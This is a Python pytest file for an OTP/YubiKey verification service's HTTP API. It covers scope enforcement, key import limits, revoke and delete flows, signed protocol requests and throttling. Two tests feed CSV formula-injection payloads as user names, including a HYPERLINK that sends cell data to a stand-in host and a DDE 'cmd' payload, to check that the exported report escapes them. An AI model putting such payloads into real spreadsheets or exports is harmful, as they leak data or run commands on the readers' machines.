"""HTTP surface: protocol 2.0 endpoint, sign-in API, admin JSON API, problem documents, scopes."""
from __future__ import annotations

import asyncio
import base64
import csv
import io
import json
import secrets
from pathlib import Path
from urllib.parse import urlencode

import pytest
from aiohttp import FormData, web
from yarl import URL

from otp import yubico
from otp.config import OtpSettings, ThrottleSettings
from otp.service import OtpService
from otp.web import add_routes
from tests.openapi_check import attach as check_against_openapi
from tests.otp.conftest import make_key, secrets_file

FIXTURES = Path(__file__).resolve().parents[2] / "fixtures" / "otp"
TOKENS = {"admin-token": "admin", "signin-token": "signin"}
ADMIN = {"Authorization": "Bearer admin-token"}
SIGNIN = {"Authorization": "Bearer signin-token"}


async def authenticate(request: web.Request, token: str):
    """What the application passes in: a token's scope and the caller's name, or None."""
    if token == "broken-store":
        raise ConnectionRefusedError("token store down")  # the database behind it cannot be reached
    scope = TOKENS.get(token)
    return (scope, f"token:{scope}") if scope else None


async def make_api(aiohttp_client, service):
    app = web.Application()
    add_routes(app, service, authenticate=authenticate)
    return await aiohttp_client(check_against_openapi(app))


@pytest.fixture
async def api(aiohttp_client, service):
    return await make_api(aiohttp_client, service)


async def import_via_api(api, keys):
    resp = await api.post("/api/v1/yubikeys/import", data=secrets_file(keys), headers=ADMIN)
    assert resp.status == 201, await resp.text()


async def new_client(api) -> tuple[int, bytes]:
    resp = await api.post("/api/v1/otp-clients", json={"name": "web"}, headers=ADMIN)
    assert resp.status == 201
    body = await resp.json()
    return body["id"], base64.b64decode(body["api_key"])


async def assert_problem(resp, status: int, *, contains: str = "") -> dict:
    assert resp.status == status, await resp.text()
    assert resp.content_type == "application/problem+json"
    body = await resp.json()
    assert body["status"] == status and body["detail"] and contains in body["detail"]
    return body


def test_every_route_is_marked(service):
    app = web.Application()
    add_routes(app, service)
    seen = {}
    for route in app.router.routes():
        seen[(route.method, route.resource.canonical)] = getattr(route.handler, "required_scope", "unset")
    assert seen.pop(("GET", "/wsapi/2.0/verify")) is None
    assert seen.pop(("POST", "/wsapi/2.0/verify")) is None
    assert seen.pop(("POST", "/api/v1/otp/verify")) == "signin"
    assert set(seen.values()) == {"admin"} and len(seen) == 9


def test_routes_check_tokens_themselves_with_authenticate(service):
    app = web.Application()
    add_routes(app, service, authenticate=authenticate)
    # the host's middleware has nothing left to enforce: the handlers call `authenticate`
    assert {getattr(route.handler, "required_scope", "unset") for route in app.router.routes()} == {None}


async def test_scopes_are_enforced(api):
    resp = await api.get("/api/v1/yubikeys")
    await assert_problem(resp, 401, contains="'admin'")
    assert resp.headers["WWW-Authenticate"] == 'Bearer realm="otp", scope="admin"'
    await assert_problem(await api.get("/api/v1/yubikeys", headers={"Authorization": "Basic YTpi"}), 401)
    await assert_problem(await api.get("/api/v1/yubikeys", headers={"Authorization": "Bearer nope"}), 401,
                         contains="unknown or disabled")
    await assert_problem(await api.get("/api/v1/yubikeys", headers=SIGNIN), 403)
    await assert_problem(await api.post("/api/v1/otp/verify", json={}, headers=ADMIN), 403)
    await assert_problem(await api.get("/api/v1/yubikeys", headers={"Authorization": "Bearer broken-store"}), 503)
    assert (await api.get("/api/v1/yubikeys", headers=ADMIN)).status == 200
    # the protocol endpoint is not behind bearer tokens
    assert (await api.get("/wsapi/2.0/verify?id=1")).status == 200


# ---- import -----------------------------------------------------------------------------------

async def test_import_body_dry_run_and_rejection(api):
    data = (FIXTURES / "yubico-format.csv").read_bytes()
    dry = await api.post("/api/v1/yubikeys/import?dry_run=1", data=data, headers=ADMIN)
    assert dry.status == 200 and (await dry.json())["imported"] == 0
    assert (await (await api.get("/api/v1/yubikeys", headers=ADMIN)).json())["count"] == 0
    ok = await api.post("/api/v1/yubikeys/import", data=data, headers=ADMIN | {"Content-Type": "text/csv"})
    body = await ok.json()
    assert ok.status == 201 and body["imported"] == 3 and body["format"] == "yubico"
    again = await assert_problem(await api.post("/api/v1/yubikeys/import", data=data, headers=ADMIN), 422,
                                 contains="nothing was imported")
    assert [e["line"] for e in again["errors"]] == [1, 1, 2, 2, 3, 3] and again["code"] == "import_rejected"
    bad = await assert_problem(await api.post("/api/v1/yubikeys/import",
                                              data=(FIXTURES / "bad-line-in-middle.csv").read_bytes(),
                                              headers=ADMIN), 422)
    assert [e["line"] for e in bad["errors"]] == [3]


async def test_a_dry_run_flag_spelled_otherwise_is_refused_not_taken_for_an_import(api):
    data = (FIXTURES / "yubico-format.csv").read_bytes()
    for spelling in ("y", "ja", "%ff", "tru", "2"):
        await assert_problem(await api.post(f"/api/v1/yubikeys/import?dry_run={spelling}", data=data,
                                            headers=ADMIN), 400, contains="dry_run")
    assert (await (await api.get("/api/v1/yubikeys", headers=ADMIN)).json())["count"] == 0
    for spelling in ("off", "0", "no", "false"):
        resp = await api.post(f"/api/v1/yubikeys/import?dry_run={spelling}", data=data, headers=ADMIN)
        assert resp.status in (201, 422), spelling  # an import (the first one imports, the others are duplicates)
    assert (await (await api.get("/api/v1/yubikeys", headers=ADMIN)).json())["count"] == 3


async def test_import_of_a_file_of_bad_lines_answers_a_bounded_problem(api):
    """1 MiB of one-character lines: the 422 lists the first 1,000 errors, counts them all, and stays small."""
    data = b"x\n" * (512 * 1024)
    resp = await api.post("/api/v1/yubikeys/import?dry_run=1", data=data, headers=ADMIN)
    raw = await resp.read()
    assert resp.status == 422 and len(raw) < 1024 * 1024, len(raw)
    body = json.loads(raw)
    assert body["code"] == "import_rejected" and body["errors_total"] == 512 * 1024
    assert len(body["errors"]) == 1000 and body["errors"][-1]["line"] == 1000
    assert "524288 problems" in body["detail"] and "first 1000" in body["detail"]


async def test_import_multipart_upload(api):
    form = FormData()
    form.add_field("file", (FIXTURES / "ykman-config-output.csv").read_bytes(), filename="secrets.csv",
                   content_type="text/csv")
    resp = await api.post("/api/v1/yubikeys/import", data=form, headers=ADMIN)
    assert resp.status == 201 and (await resp.json())["imported"] == 2


async def test_import_size_limit(aiohttp_client, engine, kek, clock):
    async with OtpService(engine, OtpSettings(import_max_bytes=1024), kek, clock=clock) as service:
        api = await make_api(aiohttp_client, service)
        big = secrets_file([make_key(10_000 + i) for i in range(30)])
        assert len(big) > 1024
        await assert_problem(await api.post("/api/v1/yubikeys/import", data=big, headers=ADMIN), 413)

        async def chunks():
            for i in range(0, len(big), 100):
                yield big[i:i + 100]
        await assert_problem(await api.post("/api/v1/yubikeys/import", data=chunks(), headers=ADMIN), 413)


# ---- report, revoke, delete -------------------------------------------------------------------

async def test_report_revoke_delete(api):
    keys = [make_key(20 + i) for i in range(3)]
    await import_via_api(api, keys)
    enrol = await api.post("/api/v1/otp/verify", json={"user": "nina", "otp": keys[0].otp()}, headers=SIGNIN)
    assert (await enrol.json())["enrolled"] is True
    report = await (await api.get("/api/v1/yubikeys?status=ACTIVE", headers=ADMIN)).json()
    assert [(k["serial"], k["user"]) for k in report["keys"]] == [("20", "nina")]
    assert [h["event"] for h in report["keys"][0]["history"]] == ["otp.key.imported", "otp.key.enrolled"]
    csv_resp = await api.get("/api/v1/yubikeys?format=csv", headers=ADMIN)
    assert csv_resp.content_type == "text/csv"
    lines = (await csv_resp.text()).splitlines()
    assert lines[0].startswith("serial,public_id,status,user") and len(lines) == 4
    await assert_problem(await api.get("/api/v1/yubikeys?status=LOST", headers=ADMIN), 400, contains="status")
    await assert_problem(await api.get("/api/v1/yubikeys?format=xml", headers=ADMIN), 400)

    await assert_problem(await api.delete("/api/v1/yubikeys/20", headers=ADMIN), 409, contains="revoke it first")
    revoked = await api.post("/api/v1/yubikeys/20/revoke", headers=ADMIN)
    assert revoked.status == 200
    body = await revoked.json()
    assert (body["status"], body["user"], body["last_user"]) == ("REVOKED", None, "nina")
    assert body["history"][-1]["actor"] == "token:admin"
    await assert_problem(await api.post("/api/v1/yubikeys/20/revoke", headers=ADMIN), 409)
    await assert_problem(await api.post("/api/v1/yubikeys/99/revoke", headers=ADMIN), 404)
    await assert_problem(await api.post("/api/v1/yubikeys/abc/revoke", headers=ADMIN), 400)
    deleted = await api.delete("/api/v1/yubikeys/21", headers=ADMIN)
    assert deleted.status == 200 and (await deleted.json())["status_before"] == "UNASSIGNED"
    assert (await (await api.delete("/api/v1/yubikeys/20", headers=ADMIN)).json())["status_before"] == "REVOKED"
    report = await (await api.get("/api/v1/yubikeys?history=0", headers=ADMIN)).json()
    assert [(k["serial"], k["deleted"]) for k in report["keys"]] == [("20", True), ("22", False)]
    assert "history" not in report["keys"][0]


async def test_delete_factor_needs_confirmation(api):
    keys = [make_key(60 + i) for i in range(3)]
    await import_via_api(api, keys)
    enrol = await api.post("/api/v1/otp/verify", json={"user": "pia", "otp": keys[0].otp()}, headers=SIGNIN)
    assert (await enrol.json())["enrolled"] is True
    for body in (None, {}, {"confirm": "yes"}, {"confirm": 1}):
        await assert_problem(await api.post("/api/v1/yubikeys/delete-factor", json=body, headers=ADMIN), 400,
                             contains="confirm")
    await assert_problem(await api.post("/api/v1/yubikeys/delete-factor", json={"confirm": True}, headers=SIGNIN),
                         403)
    report = await (await api.get("/api/v1/yubikeys?history=0", headers=ADMIN)).json()
    assert len(report["keys"]) == 3  # nothing was deleted by the refused requests
    done = await api.post("/api/v1/yubikeys/delete-factor", json={"confirm": True}, headers=ADMIN)
    assert done.status == 200 and await done.json() == {"unassigned_removed": 2, "assigned_retired": 1}
    report = await (await api.get("/api/v1/yubikeys?history=0", headers=ADMIN)).json()
    assert [(k["serial"], k["deleted"]) for k in report["keys"]] == [("60", True)]


# ---- sign-in API ------------------------------------------------------------------------------

async def test_signin_verify(api):
    k = make_key(40)
    await import_via_api(api, [k])
    otp = k.otp()
    ok = await api.post("/api/v1/otp/verify", json={"user": "olga", "otp": otp}, headers=SIGNIN)
    assert ok.status == 200
    assert await ok.json() == {"status": "OK", "reason": "enrolled", "enrolled": True, "serial": "40",
                               "public_id": k.public_id, "user": "olga",
                               "detail": "the OTP is valid and the key is now enrolled to this user"}
    replay = await assert_problem(await api.post("/api/v1/otp/verify", json={"user": "olga", "otp": otp},
                                                 headers=SIGNIN), 403)
    assert (replay["status"], replay["result"], replay["reason"], replay["title"]) == (
        403, "REJECTED", "replayed_otp", "OTP rejected")
    await assert_problem(await api.post("/api/v1/otp/verify", data=b"{", headers=SIGNIN), 400, contains="JSON")
    await assert_problem(await api.post("/api/v1/otp/verify", json=["x"], headers=SIGNIN), 400)
    await assert_problem(await api.post("/api/v1/otp/verify", json={"otp": otp}, headers=SIGNIN), 400,
                         contains="user")
    await assert_problem(await api.post("/api/v1/otp/verify", json={"user": "olga", "otp": 5}, headers=SIGNIN), 400)


async def test_signin_throttled_is_429(aiohttp_client, engine, kek, clock):
    settings = OtpSettings(throttle_client=ThrottleSettings(max_failures=2))
    async with OtpService(engine, settings, kek, clock=clock) as service:
        api = await make_api(aiohttp_client, service)
        for _ in range(2):
            await api.post("/api/v1/otp/verify", json={"user": "pat", "otp": "nope"}, headers=SIGNIN)
        body = await assert_problem(await api.post("/api/v1/otp/verify", json={"user": "sam", "otp": "nope"},
                                                   headers=SIGNIN), 429)
        assert body["reason"] == "throttled"
        events = await service.security_events()
        assert [(e["kind"], e["actor"]) for e in events] == [("security.otp.client_throttled", "token:signin")]


# ---- API clients ------------------------------------------------------------------------------

async def test_otp_clients(api):
    cid, key = await new_client(api)
    assert len(key) == 20
    listing = await (await api.get("/api/v1/otp-clients", headers=ADMIN)).json()
    assert [(c["id"], c["name"], c["active"]) for c in listing["clients"]] == [(cid, "web", True)]
    assert "api_key" not in json.dumps(listing)
    resp = await api.post(f"/api/v1/otp-clients/{cid}/disable", headers=ADMIN)
    assert resp.status == 200 and (await resp.json())["active"] is False
    await assert_problem(await api.post(f"/api/v1/otp-clients/{cid}/disable", headers=ADMIN), 409)
    await assert_problem(await api.post("/api/v1/otp-clients/777/disable", headers=ADMIN), 404)
    await assert_problem(await api.post("/api/v1/otp-clients/x/disable", headers=ADMIN), 400)
    no_body = await api.post("/api/v1/otp-clients", headers=ADMIN)
    assert no_body.status == 201 and (await no_body.json())["name"] == ""
    assert no_body.headers["Cache-Control"] == "no-store"  # the answer holds the API key: kept by no cache
    await assert_problem(await api.post("/api/v1/otp-clients", json={"name": 3}, headers=ADMIN), 400)


# ---- protocol 2.0 endpoint --------------------------------------------------------------------

def signed_query(cid: int, key: bytes, otp: str, nonce: str, **extra: str) -> tuple[dict[str, str], str]:
    params = {"id": str(cid), "otp": otp, "nonce": nonce, **extra}
    params["h"] = yubico.sign(params, key)
    return params, params["h"]


async def test_wsapi_get_with_raw_plus_in_h(api):
    cid, key = await new_client(api)
    k = make_key(60)
    await import_via_api(api, [k])
    # find an OTP/nonce whose signature contains a '+', and send it unescaped
    for _ in range(200):
        otp, nonce = k.otp(), secrets.token_hex(8)
        params, h = signed_query(cid, key, otp, nonce, timestamp="1")
        if "+" in h:
            break
    else:
        pytest.fail("no signature with '+' found")
    raw = f"/wsapi/2.0/verify?id={cid}&otp={otp}&nonce={nonce}&timestamp=1&h={h}"
    resp = await api.get(URL(raw, encoded=True))
    assert resp.status == 200 and resp.content_type == "text/plain"
    body = await resp.text()
    assert body.endswith("\r\n\r\n") and "\n" not in body.replace("\r\n", "")
    fields = yubico.decode_response(body)
    assert fields["status"] == "OK" and yubico.signature_matches(fields, key)
    assert fields["otp"] == otp and fields["nonce"] == nonce and "sessionuse" in fields


async def test_wsapi_post_form(api):
    cid, key = await new_client(api)
    k = make_key(61)
    await import_via_api(api, [k])
    params, _ = signed_query(cid, key, k.otp(), "abcdefghijklmnopqrst")
    resp = await api.post("/wsapi/2.0/verify", data=params)
    fields = yubico.decode_response(await resp.text())
    assert resp.status == 200 and fields["status"] == "OK" and yubico.signature_matches(fields, key)


@pytest.mark.parametrize("query", ["", "?%ZZ=%&&&==&id", "?id=1&otp=" + "c" * 5000, "?id=%00&nonce=%FF%FE",
                                   "?id=1&id=2&nonce=abcdefghijklmnop&otp=ccccccccccccccccccccccccccccccccccc"])
async def test_wsapi_never_fails_on_garbage(api, query):
    resp = await api.get(URL("/wsapi/2.0/verify" + query, encoded=True))
    assert resp.status == 200
    fields = yubico.decode_response(await resp.text())
    assert fields["status"] in {"MISSING_PARAMETER", "NO_SUCH_CLIENT", "BAD_OTP"} and "h" in fields


async def test_wsapi_post_too_large(api):
    resp = await api.post("/wsapi/2.0/verify", data=b"id=1&" + b"x" * 10_000)
    assert resp.status == 413


async def test_wsapi_post_body_is_read_to_the_end(api):
    cid, key = await new_client(api)
    k = make_key(62)
    await import_via_api(api, [k])
    params, _ = signed_query(cid, key, k.otp(), "abcdefghijklmnopqrsu")
    body = urlencode(params).encode()

    async def trickle():  # the form arrives in several TCP segments
        for i in range(0, len(body), 7):
            yield body[i:i + 7]
            await asyncio.sleep(0.01)

    resp = await api.post("/wsapi/2.0/verify", data=trickle(),
                          headers={"Content-Type": "application/x-www-form-urlencoded"})
    fields = yubico.decode_response(await resp.text())
    assert resp.status == 200 and fields["status"] == "OK", fields

    async def too_big():
        for _ in range(20):
            yield b"x" * 1000
    assert (await api.post("/wsapi/2.0/verify", data=too_big())).status == 413


async def test_report_csv_cells_cannot_be_formulas(api):
    keys = [make_key(70 + i) for i in range(5)]
    await import_via_api(api, keys)
    users = ["=HYPERLINK(\"http://x.example/\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "plain"]
    for k, user in zip(keys, users):
        resp = await api.post("/api/v1/otp/verify", json={"user": user, "otp": k.otp()}, headers=SIGNIN)
        assert resp.status == 200, await resp.text()
    text = await (await api.get("/api/v1/yubikeys?format=csv", headers=ADMIN)).text()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["user"] for r in rows] == ["'" + u for u in users[:4]] + ["plain"]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values())


async def test_report_csv_formulas_behind_blanks_or_in_full_width_are_escaped(api):
    """A user name chosen at a sign-in page reaches the CSV: a formula behind leading blanks (Google Sheets,
    LibreOffice's trimming import and converters strip them) or in full-width characters (read as the ASCII ones
    by some locales) starts with a quote too; a name that only starts with a blank is left as it is."""
    keys = [make_key(80 + i) for i in range(6)]
    await import_via_api(api, keys)
    users = [" =HYPERLINK(\"http://x.example/\"&A1,\"open\")", "  +1+cmd|' /C calc'!A0", "\u3000@SUM(1+1)",
             "\xa0-2+3", "\uff1d1+1", " plain"]
    for k, user in zip(keys, users):
        resp = await api.post("/api/v1/otp/verify", json={"user": user, "otp": k.otp()}, headers=SIGNIN)
        assert resp.status == 200, await resp.text()
    text = await (await api.get("/api/v1/yubikeys?format=csv", headers=ADMIN)).text()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["user"] for r in rows] == ["'" + u for u in users[:5]] + [" plain"]


@pytest.mark.parametrize("serial", ["²", "١٢", "1²", "１２"])
async def test_unicode_digits_are_not_numbers(api, serial):
    await assert_problem(await api.post(f"/api/v1/yubikeys/{serial}/revoke", headers=ADMIN), 400)
    await assert_problem(await api.delete(f"/api/v1/yubikeys/{serial}", headers=ADMIN), 400)
    await assert_problem(await api.get("/api/v1/yubikeys", params={"serial": serial}, headers=ADMIN), 400)
    await assert_problem(await api.get("/api/v1/yubikeys", params={"limit": serial}, headers=ADMIN), 400)
    await assert_problem(await api.post(f"/api/v1/otp-clients/{serial}/disable", headers=ADMIN), 400)


async def test_huge_client_ids_are_unknown_clients(api):
    await assert_problem(await api.post("/api/v1/otp-clients/99999999999/disable", headers=ADMIN), 404)
    resp = await api.get("/wsapi/2.0/verify", params={"id": "9999999999", "otp": "c" * 44,
                                                      "nonce": "abcdefghijklmnop"})
    assert yubico.decode_response(await resp.text())["status"] == "NO_SUCH_CLIENT"


async def test_wsapi_requires_signed_requests_unless_the_client_opts_out(api, caplog):
    cid, key = await new_client(api)
    k = make_key(91)
    await import_via_api(api, [k])
    unsigned = {"id": str(cid), "otp": k.otp(), "nonce": "abcdefghijklmnopq"}
    fields = yubico.decode_response(await (await api.get("/wsapi/2.0/verify", params=unsigned)).text())
    assert fields["status"] == "MISSING_PARAMETER" and yubico.signature_matches(fields, key)
    resp = await api.post("/api/v1/otp-clients", json={"name": "legacy pam", "allow_unsigned": True}, headers=ADMIN)
    assert resp.status == 201 and (await resp.json())["allow_unsigned"] is True
    legacy = (await resp.json())["id"]
    unsigned["id"] = str(legacy)
    with caplog.at_level("INFO", logger="otp.service"):
        fields = yubico.decode_response(await (await api.get("/wsapi/2.0/verify", params=unsigned)).text())
    assert fields["status"] == "OK"
    assert [r.client_id for r in caplog.records if r.getMessage() == "otp.verify.unsigned"] == [legacy]
    # an administrator can require signatures of that client again, or allow them for the first one
    resp = await api.patch(f"/api/v1/otp-clients/{legacy}", json={"allow_unsigned": False}, headers=ADMIN)
    assert resp.status == 200 and (await resp.json())["allow_unsigned"] is False
    unsigned["otp"] = k.otp()
    fields = yubico.decode_response(await (await api.get("/wsapi/2.0/verify", params=unsigned)).text())
    assert fields["status"] == "MISSING_PARAMETER"
    await assert_problem(await api.patch(f"/api/v1/otp-clients/{cid}", json={"allow_unsigned": "yes"},
                                         headers=ADMIN), 400)
    await assert_problem(await api.patch("/api/v1/otp-clients/4242", json={"allow_unsigned": True},
                                         headers=ADMIN), 404)
    await assert_problem(await api.patch(f"/api/v1/otp-clients/{cid}", json={"allow_unsigned": True},
                                         headers=SIGNIN), 403)
    await assert_problem(await api.post("/api/v1/otp-clients", json={"allow_unsigned": 1}, headers=ADMIN), 400)


async def test_wsapi_throttles_by_the_client_address_function(aiohttp_client, service):
    app = web.Application()
    add_routes(app, service, authenticate=authenticate, client_address=lambda request: "192.0.2.200")
    api = await aiohttp_client(check_against_openapi(app))
    assert await service.store.throttle_state("source:192.0.2.200") is None
    await api.post("/api/v1/otp/verify", json={"user": "u", "otp": "nope"}, headers=SIGNIN)
    assert (await service.store.throttle_state("source:192.0.2.200"))[0] == 1
    assert (await service.store.throttle_state("signin:token:signin"))[0] == 1
